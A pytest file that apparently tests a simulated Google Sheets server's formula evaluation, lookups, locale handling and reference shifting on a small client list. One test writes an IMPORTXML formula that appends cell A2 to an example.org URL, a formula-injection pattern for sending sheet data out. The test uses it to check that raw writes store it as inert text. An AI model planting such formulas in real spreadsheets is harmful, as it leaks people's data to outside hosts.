import gspread
import pytest

from tests.sheets_server.people import People
from tests.sheets_server.server import SheetsServer
from tests.sheets_server.shifts import Shift, renamed_formula, shifted_formula

TIER = '=ARRAYFORMULA(IF(ROW(A:A)=1,"Tier",IFERROR(VLOOKUP(A:A,Standing!A:Z,2,FALSE),"")))'


@pytest.fixture
def shop(server: SheetsServer) -> People:
    clients = [["Client no.", "Name"], ["C001", "Asha"], ["C002", "Ben"], ["", "Nobody"]]
    return server.spreadsheet("Shop", {"Clients": clients, "Standing": [["Client no.", "Tier"], ["c002", "Gold"]]})


@pytest.mark.parametrize(
    ("formula", "value"),
    [
        ("=4/2", 2),
        ("=3/2", 1.5),
        ("=1+2*3-4", 3),
        ("=-(1+2)", -3),
        ("=+5", 5),
        ('="a"&1&TRUE', "a1TRUE"),
        ('="say ""hi"""', 'say "hi"'),
        ('=IF(1<2,"yes","no")', "yes"),
        ("=IF(2<=1,1)", False),
        ('="Asha"="ASHA"', True),
        ("=1<>1", False),
        ("=A9=0", True),
        ('=A9=""', True),
        ('="b">="a"', True),
        ("=1/0", "#DIV/0!"),
        ("=1/0+1", "#DIV/0!"),
        ('=1+"a"', "#VALUE!"),
        ("=IFERROR(1/0,7)", 7),
        ("=IFNA(1/0,7)", "#DIV/0!"),
        ('=IFNA(VLOOKUP("x",A1:B2,2,FALSE),"none")', "none"),
        ('=VLOOKUP("c001",A1:B4,2,0)', "Asha"),
        ('=VLOOKUP("C001",A1:B4,2)', "#VALUE!"),
        ('=VLOOKUP("C001",A1:B4,3,FALSE)', "#REF!"),
        ("=Standing!B2", "Gold"),
        ("='Standing'!B2", "Gold"),
        ("=Nowhere!B2", "#REF!"),
        ('=INDIRECT("Standing!B2")', "Gold"),
        ("=A2:A4", "C001"),
        ("=ROW(B7)", 7),
        ("=ROW(7)", "#VALUE!"),
        ("=LEN(A2)", 4),
        ('=TRIM("  a  b ")', "a b"),
        ("=ISBLANK(A9)", True),
        ('=HYPERLINK("#gid=0","Clients!C3")', "Clients!C3"),
        ('=HYPERLINK("#gid=0")', "#gid=0"),
        ('=IMPORTXML("https://example.org","//a")', "#NAME?"),
        ("=nonsense", "#NAME?"),
        ("=IF()", "#N/A"),
        ("=1+", "#ERROR!"),
        ("=(1", "#ERROR!"),
        ("=1 2", "#ERROR!"),
        ("=IF(1 2)", "#ERROR!"),
        ("=§", "#ERROR!"),
        ("=*", "#ERROR!"),
        ("=" + "(" * 99 + "1" + ")" * 99, "#ERROR!"),
    ],
)
def test_a_formula_is_worked_out(shop: People, formula: str, value: object) -> None:
    shop.type("Clients", "F1", formula)

    assert shop.values("Clients")[0][5] == value
    assert shop.formula("Clients", "F1") == formula


@pytest.mark.parametrize(("formula", "value"), [("=IF(1;2;3)", 2), ("=IF(1,2,3)", "#ERROR!")])
def test_where_a_comma_is_the_decimal_sign_only_semicolons_keep_arguments_apart(
    shop: People, formula: str, value: object
) -> None:
    shop.book.properties["locale"] = "ru_RU"
    shop.type("Clients", "F1", formula)

    assert shop.values("Clients")[0][5] == value


def test_a_whole_column_look_up_stands_beside_its_client(shop: People) -> None:
    shop.type("Clients", "C1", TIER)

    assert [row[2] for row in shop.values("Clients")[:4]] == ["Tier", "", "Gold", ""]


def test_a_look_up_follows_its_clients_through_a_sort_and_a_new_row(shop: People) -> None:
    shop.type("Clients", "C1", TIER)

    shop.sort("Clients", 1, down=True)
    shop.insert_rows("Clients", 2)

    assert {row[0]: row[2] for row in shop.values("Clients")[:5] if row[0]} == {
        "Client no.": "Tier",
        "C002": "Gold",
        "C001": "",
    }
    assert shop.formula("Clients", "C1") == TIER


def test_a_typed_value_in_its_way_breaks_a_look_up_column(shop: People) -> None:
    shop.type("Clients", "C1", TIER)
    shop.type("Clients", "C3", "Platinum")

    assert [row[2] if len(row) > 2 else None for row in shop.values("Clients")[:4]] == ["#REF!", None, "Platinum", None]


def test_a_formula_that_looks_at_itself_ends(shop: People) -> None:
    shop.type("Clients", "F1", "=Standing!F1")
    shop.type("Standing", "F1", "=Clients!F1")

    assert shop.values("Clients")[0][:2] == ["Client no.", "Name"]


def test_raw_writes_no_formula_and_user_entered_does(shop: People, google: gspread.Client) -> None:
    tab = google.open_by_key(shop.id).sheet1
    text = '=IMPORTXML("https://example.org/?"&A2,"//a")'

    tab.update([[text]], "D2", raw=True)
    tab.update([[text]], "D3", raw=False)

    assert (shop.formula("Clients", "D2"), shop.values("Clients")[1][3]) == ("", text)
    assert (shop.formula("Clients", "D3"), shop.values("Clients")[2][3]) == (text, "#NAME?")


def test_a_plus_makes_a_formula_of_a_phone_when_typed(shop: People) -> None:
    shop.type("Clients", "D2", "+254 712 345 678")
    shop.type("Clients", "D3", "+254712345678")

    assert [row[3] for row in shop.values("Clients")[1:3]] == ["#ERROR!", 254712345678]


@pytest.mark.parametrize(
    ("formula", "shift", "after"),
    [
        ("=A2", Shift(rows=True, start=1, count=1), "=A3"),
        ("=$A$2", Shift(rows=True, start=1, count=2), "=$A$4"),
        ("=A2:A", Shift(rows=True, start=1, count=1), "=A3:A"),
        ("=A:A", Shift(rows=True, start=0, count=1), "=A:A"),
        ("=A:C", Shift(rows=False, start=1, count=1), "=A:D"),
        ("=A:C", Shift(rows=False, start=0, count=1), "=B:D"),
        ("=A1:A3", Shift(rows=True, start=3, count=1), "=A1:A3"),
        ("=A1:A3", Shift(rows=True, start=1, count=-1), "=A1:A2"),
        ("=A3", Shift(rows=True, start=0, count=-1), "=A2"),
        ("=A2", Shift(rows=True, start=1, count=-1), "=#REF!"),
        ('="A2"&A2', Shift(rows=True, start=0, count=1), '="A2"&A3'),
        ("=Standing!A2", Shift(rows=True, start=0, count=1), "=Standing!A2"),
        ("=Clients!A2", Shift(rows=True, start=0, count=1), "=Clients!A3"),
        ("=ROW(A:A)", Shift(rows=False, start=0, count=1), "=ROW(B:B)"),
    ],
)
def test_references_follow_what_people_insert_and_delete(formula: str, shift: Shift, after: str) -> None:
    assert shifted_formula(formula, "Clients", "Clients", shift) == after


def test_references_follow_a_renamed_tab(shop: People) -> None:
    shop.type("Clients", "C1", TIER)
    shop.rename("Standing", "Where they stand")

    assert "'Where they stand'!A:Z" in shop.formula("Clients", "C1")
    assert shop.values("Clients")[2][2] == "Gold"
    assert renamed_formula('="Standing!A1"&A1', "Standing", "x") == '="Standing!A1"&A1'
